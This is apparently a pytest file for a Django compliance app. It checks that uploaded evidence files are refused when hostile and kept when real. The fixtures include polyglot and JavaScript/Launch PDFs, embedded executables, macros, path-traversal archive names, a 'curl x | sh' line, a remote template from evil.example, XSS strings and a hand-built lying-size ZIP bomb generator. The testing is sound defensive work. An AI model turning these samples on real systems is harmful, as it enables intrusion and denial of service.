"""Evidence content checks go past the first bytes: each claimed type is parsed for
real, an attack is refused with its reason and nothing is stored, and real files pass.
The API download sends the same security headers as the HTML download."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from riskhub.accounts.policy import Role
from riskhub.compliance import services
from riskhub.compliance.models import Evidence
from riskhub.compliance.uploads import check_upload

from . import samples
from .conftest import control

# An OLE compound file whose directory names the stream a "Package" object wraps a
# file in (the way a DOCX smuggles an .exe behind an icon).
OLE_PACKAGE = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500 + "Ole10Native".encode("utf-16-le")
)
PE_HEADER = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"PE\x00\x00"


@pytest.fixture
def media(settings, tmp_path: Path) -> Path:  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


@pytest.fixture
def implementation(catalogs, officer):  # type: ignore[no-untyped-def]
    return services.implementation_create(
        actor=officer,
        control=control("CTL-INCIDENT-RESPONSE"),
        scope="organisation",
        status="implemented",
    )


def upload(officer, implementation, content: bytes, name: str) -> Evidence:  # type: ignore[no-untyped-def]
    return services.evidence_add_file(
        actor=officer,
        implementation=implementation,
        file=io.BytesIO(content),
        name=name,
        size=len(content),
        description="Evidence",
    )


def refused(officer, implementation, media: Path, content: bytes, name: str) -> str:  # type: ignore[no-untyped-def]
    """Upload through the service; assert it is refused and nothing is kept."""
    with pytest.raises(ValidationError) as caught:
        upload(officer, implementation, content, name)
    assert not Evidence.objects.exists()
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))
    return " ".join(caught.value.messages)


def pdf_with(extra: dict[str, object]) -> bytes:
    """A real PDF whose catalog carries `extra` (actions, names)."""
    from pypdf import PdfWriter
    from pypdf.generic import NameObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    for key, value in extra.items():
        writer._root_object[NameObject(key)] = value  # type: ignore[assignment]
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_pdf() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('owned')"),
        }
    )
    return pdf_with({"/OpenAction": action})


def launch_pdf() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    return pdf_with({"/OpenAction": action})


def annotation_javascript_pdf() -> bytes:
    """JavaScript on a link annotation, nested in a page's /Annots array."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/JavaScript"),
                    NameObject("/JS"): TextStringObject("this.exportDataObject()"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([link])
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_attachment(name: str, data: bytes) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment(name, data)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def lying_zip(real: bytes, declared_size: int) -> bytes:
    """A DOCX whose word/document.xml header declares `declared_size` bytes (and the CRC
    of what a reader stopping there would see), while its data inflates to `real`."""
    members = samples.docx_members()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            if name != "word/document.xml":
                archive.writestr(name, data)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed = compressor.compress(real) + compressor.flush()
    name = b"word/document.xml"
    crc = zlib.crc32(real[:declared_size])
    local = struct.pack(
        "<4sHHHHHIIIHH",
        b"PK\x03\x04",
        20,
        0,
        8,
        0,
        0,
        crc,
        len(compressed),
        declared_size,
        len(name),
        0,
    )
    # Rebuild the archive by hand: the existing members, then the lying one, then a
    # central directory that repeats the lie.
    original = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    body = bytearray()
    central = bytearray()
    for info in original.infolist():
        payload = original.open(info).read()
        comp = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = comp.compress(payload) + comp.flush()
        encoded = info.filename.encode()
        offset = len(body)
        body += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0,
            zlib.crc32(payload),
            len(packed),
            len(payload),
            len(encoded),
            0,
        )
        body += encoded + packed
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            zlib.crc32(payload),
            len(packed),
            len(payload),
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    offset = len(body)
    body += local + name + compressed
    central += struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        crc,
        len(compressed),
        declared_size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        offset,
    )
    central += name
    count = len(original.infolist()) + 1
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(body), 0)
    return bytes(body + central + end)


# --- the attacks from the issue ---------------------------------------------------------


def test_a_file_starting_with_the_pdf_magic_that_is_html_is_refused(
    officer, implementation, media
) -> None:  # type: ignore[no-untyped-def]
    fake = b"%PDF-1.7\n<html><body><script>fetch('/api/v1/users/')</script></body></html>\n"
    message = refused(officer, implementation, media, fake + b"%%EOF\n", "report.pdf")
    assert "This PDF has no valid structure" in message


def test_a_real_pdf_with_a_script_appended_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    polyglot = samples.pdf_bytes() + b"<script>alert(document.cookie)</script>"
    message = refused(officer, implementation, media, polyglot, "report.pdf")
    assert "data after its end" in message


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (javascript_pdf, "contains JavaScript"),
        (launch_pdf, "launch action"),
        (annotation_javascript_pdf, "contains JavaScript"),
        (lambda: pdf_with_attachment("payload.exe", PE_HEADER), "executable file attached"),
        (lambda: pdf_with_attachment("notes.dat", PE_HEADER), "executable file attached"),
    ],
)
def test_a_pdf_with_active_content_is_refused_with_its_reason(
    officer, implementation, media, content, reason
) -> None:  # type: ignore[no-untyped-def]
    message = refused(officer, implementation, media, content(), "report.pdf")
    assert reason in message


def test_a_pdf_without_pages_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    from pypdf import PdfWriter

    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    assert "has no pages" in refused(officer, implementation, media, buffer.getvalue(), "x.pdf")


@pytest.mark.parametrize(("kind", "marker"), [("PNG", "IEND"), ("JPEG", "EOI")])
def test_an_image_followed_by_a_script_is_refused(
    officer, implementation, media, kind, marker
) -> None:  # type: ignore[no-untyped-def]
    polyglot = samples.image_bytes(kind) + b"<script>alert(document.domain)</script>"
    name = "shot.png" if kind == "PNG" else "shot.jpg"
    message = refused(officer, implementation, media, polyglot, name)
    assert f"data after the image end ({marker})" in message


def test_png_magic_followed_by_script_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    fake = b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"
    message = refused(officer, implementation, media, fake, "shot.png")
    assert "This PNG image cannot be decoded" in message


def test_a_png_with_a_script_in_its_text_chunk_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, format="PNG", pnginfo=info)
    message = refused(officer, implementation, media, buffer.getvalue(), "shot.png")
    assert "hides a script in its metadata" in message


def test_an_image_with_a_damaged_body_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    from PIL import Image

    buffer = io.BytesIO()
    Image.effect_noise((64, 64), 40).convert("RGB").save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    idat = data.index(b"IDAT")
    data[idat + 20 : idat + 60] = b"\x00" * 40  # keeps the chunk layout, breaks the pixels
    message = refused(officer, implementation, media, bytes(data), "shot.png")
    assert "cannot be decoded" in message


def test_an_image_too_large_to_decode_safely_is_refused(
    officer, implementation, media, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    from riskhub.compliance import uploads

    monkeypatch.setattr(uploads, "IMAGE_MAX_PIXELS", 1000)
    message = refused(officer, implementation, media, samples.png_bytes(), "shot.png")
    assert "decompression bomb" in message


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        (
            {"word/embeddings/payload.exe": PE_HEADER},
            "executable file: word/embeddings/payload.exe",
        ),
        ({"word/media/image1.png": PE_HEADER}, "executable file: word/media/image1.png"),
        (
            {"word/media/run.png": b"#!/bin/sh\ncurl x | sh\n"},
            "executable file: word/media/run.png",
        ),
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "contains macros (word/vbaProject.bin)"),
        ({"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}, "contains macros"),
        ({"../../evil.xml": "<x/>"}, "unsafe name: ../../evil.xml"),
        ({"/etc/cron.d/evil": "x"}, "unsafe name: /etc/cron.d/evil"),
        (
            {"word/embeddings/oleObject1.bin": OLE_PACKAGE},
            "embedded package",
        ),
        (
            {
                "word/_rels/settings.xml.rels": (
                    '<Relationships><Relationship Id="rId1" Type="http://schemas.'
                    "openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                    '" Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    "</Relationships>"
                )
            },
            "loads content from outside the document (https://evil.example/t.dotm)",
        ),
    ],
)
def test_a_docx_carrying_a_program_or_macros_is_refused_with_its_reason(
    officer, implementation, media, extra, reason
) -> None:  # type: ignore[no-untyped-def]
    message = refused(officer, implementation, media, samples.docx_bytes(extra), "policy.docx")
    assert f"The DOCX {reason}" in message or reason in message


def test_a_macro_enabled_content_type_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    members = samples.docx_members()
    members["[Content_Types].xml"] = str(members["[Content_Types].xml"]).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    message = refused(officer, implementation, media, samples.zip_bytes(members), "policy.docx")
    assert "The DOCX contains macros" in message


def test_a_zip_whose_declared_sizes_lie_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    real = b"<w:document/>" + b" " * 5_000_000
    forged = lying_zip(real, declared_size=13)
    # zipfile trusts the header: it reads 13 bytes, the CRC matches, all looks fine.
    with zipfile.ZipFile(io.BytesIO(forged)) as archive:
        assert archive.read("word/document.xml") == real[:13]
    message = refused(officer, implementation, media, forged, "policy.docx")
    assert "word/document.xml is not the size its header declares" in message


def test_a_zip_declaring_more_than_it_holds_is_refused(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    forged = lying_zip(b"<w:document/>", declared_size=4096)
    message = refused(officer, implementation, media, forged, "policy.docx")
    assert "not the size its header declares" in message


def test_a_zip_bomb_hidden_behind_small_declared_sizes_is_refused_quickly(
    officer, implementation, media
) -> None:  # type: ignore[no-untyped-def]
    import time

    forged = lying_zip(b"\x00" * (100 * 1024 * 1024), declared_size=10)
    assert len(forged) < 200_000
    started = time.monotonic()
    message = refused(officer, implementation, media, forged, "policy.docx")
    assert "not the size its header declares" in message
    # Counting stops at the first chunk past the declared size: no 100 MB is inflated.
    assert time.monotonic() - started < 2


@pytest.mark.parametrize(
    ("content", "name", "reason"),
    [
        (b"<!DOCTYPE html><html><body>hi</body></html>", "notes.txt", "begins like a web page"),
        (b"  <svg onload=alert(1)>", "notes.md", "begins like a web page"),
        (b"control,status\nx,<script>alert(1)</script>\n", "table.csv", "<script> tag"),
        (b'{"finding": "<iframe src=//evil>"}', "scan.json", "<iframe> tag"),
    ],
)
def test_text_that_is_html_or_script_is_refused(
    officer, implementation, media, content, name, reason
) -> None:  # type: ignore[no-untyped-def]
    message = refused(officer, implementation, media, content, name)
    assert "contains HTML" in message and reason in message


# --- real files still pass --------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "content_type"),
    [
        (samples.pdf_bytes, "policy.pdf", "application/pdf"),
        (samples.weasyprint_pdf, "pentest.pdf", "application/pdf"),
        (
            lambda: pdf_with_attachment("data.json", b'{"ok": true}'),
            "report.pdf",
            "application/pdf",
        ),
        (samples.png_bytes, "screenshot.png", "image/png"),
        (samples.jpeg_bytes, "photo.jpg", "image/jpeg"),
        (samples.docx_bytes, "policy.docx", samples.DOCX_CONTENT_TYPE),
        (samples.xlsx_bytes, "register.xlsx", samples.XLSX_CONTENT_TYPE),
        (lambda: b"control,status\nCTL-1,done\n", "register.csv", "text/csv"),
        (lambda: b"Training log: 12 people, 2 < 3 hours.\n", "log.txt", "text/plain"),
    ],
)
def test_real_evidence_files_are_stored(
    officer, implementation, media, make, name, content_type
) -> None:  # type: ignore[no-untyped-def]
    content = make()
    evidence = upload(officer, implementation, content, name)
    assert evidence.content_type == content_type
    assert evidence.file.read() == content


def test_a_docx_with_a_hyperlink_and_an_image_is_stored(officer, implementation, media) -> None:  # type: ignore[no-untyped-def]
    rels = (
        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/hyperlink" Target="https://eur-lex.europa.eu/" '
        'TargetMode="External"/></Relationships>'
    )
    content = samples.docx_bytes(
        {"word/_rels/document.xml.rels": rels, "word/media/image1.png": samples.png_bytes()}
    )
    assert upload(officer, implementation, content, "policy.docx").size == len(content)


def test_a_signed_riskhub_report_is_accepted_as_evidence(settings, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from riskhub.reports.pdf import render_pdf
    from riskhub.reports.signing import sign_pdf

    settings.VAR_DIR = str(tmp_path)
    data, _pages = render_pdf(
        "<html><head><title>Coverage</title></head><body>Coverage report</body></html>",
        data_json=b'{"coverage": []}',
    )
    signed = sign_pdf(data, reason="Issued by RiskHub")
    assert check_upload(io.BytesIO(signed), "coverage.pdf").kind == "pdf"


# --- downloads ---------------------------------------------------------------------------

SECURITY_HEADERS = (
    "Content-Type",
    "Content-Disposition",
    "Content-Length",
    "X-Content-Type-Options",
    "Content-Security-Policy",
    "Cache-Control",
)


def test_the_api_download_sends_the_same_security_headers_as_the_html_download(
    officer, implementation, media, client_for
) -> None:  # type: ignore[no-untyped-def]
    evidence = upload(officer, implementation, samples.pdf_bytes(), "policy.pdf")
    client = client_for(Role.AUDITOR)
    html = client.get(reverse("compliance:evidence_download", args=[evidence.uuid]))
    api = client.get(f"/api/v1/evidence/{evidence.uuid}/download/")
    assert html.status_code == api.status_code == 200
    assert {h: api.get(h) for h in SECURITY_HEADERS} == {h: html.get(h) for h in SECURITY_HEADERS}
    assert api["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert api["Cache-Control"] == "private, no-store"
    assert api["X-Content-Type-Options"] == "nosniff"
    assert api["Content-Disposition"].startswith("attachment;")
    assert b"".join(api.streaming_content) == b"".join(html.streaming_content)
